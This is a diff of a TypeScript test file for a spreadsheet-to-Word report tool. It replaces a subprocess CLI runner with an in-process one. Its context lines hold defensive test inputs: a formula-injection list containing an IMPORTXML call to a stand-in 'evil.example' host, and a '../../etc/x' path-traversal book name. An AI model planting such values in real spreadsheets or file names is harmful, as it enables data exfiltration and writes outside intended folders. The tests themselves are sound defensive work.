@@ -13,7 +13,8 @@ import { issuesHtml } from '../../src/gas/dialogs';
 import { fileNameOf } from '../../src/node/cli-options';
 import { docsOf } from '../gas/doc-shape';
 import { harness, NOW } from '../gas/harness';
-import { type Book, day, pct, readBook, runCli, writeBook } from './xlsx-book';
+import { runCliInProcess } from '../node/cli-in-process';
+import { type Book, day, pct, readBook, writeBook } from './xlsx-book';
 
 /** Text a spreadsheet would run or parse if it were typed in, rather than written as a value. */
 const FORMULA_LIKE = ['=IMPORTXML("https://evil.example/x","//a")', '+1', '-1', '@x', '=1+1'];
@@ -67,7 +68,9 @@ describe('Start new week writes formula-like text as text', () => {
       const source = join(work, 'team.xlsx');
       const out = join(work, 'next.xlsx');
       await writeBook(book('支付中心'), source);
-      expect(runCli(['new-week', '--workbook', source, '--out', out, '--now', NOW_FLAG]).status).toBe(0);
+      expect(
+        (await runCliInProcess(['new-week', '--workbook', source, '--out', out, '--now', NOW_FLAG])).status,
+      ).toBe(0);
       const written = new ExcelJS.Workbook();
       await written.xlsx.readFile(out);
       const sheet = written.getWorksheet('项目') as ExcelJS.Worksheet;
@@ -145,7 +148,15 @@ describe('File names made from the report', () => {
       const out = join(work, 'a', 'b', 'out');
       mkdirSync(out, { recursive: true });
       await writeBook(book('../../etc/x'), source);
-      const result = runCli(['generate', '--workbook', source, '--out', out, '--now', NOW_FLAG]);
+      const result = await runCliInProcess([
+        'generate',
+        '--workbook',
+        source,
+        '--out',
+        out,
+        '--now',
+        NOW_FLAG,
+      ]);
       expect(result.status).toBe(0);
       expect(readdirSync(out).sort()).toEqual([
         '第46周 2023-11-13.docx',
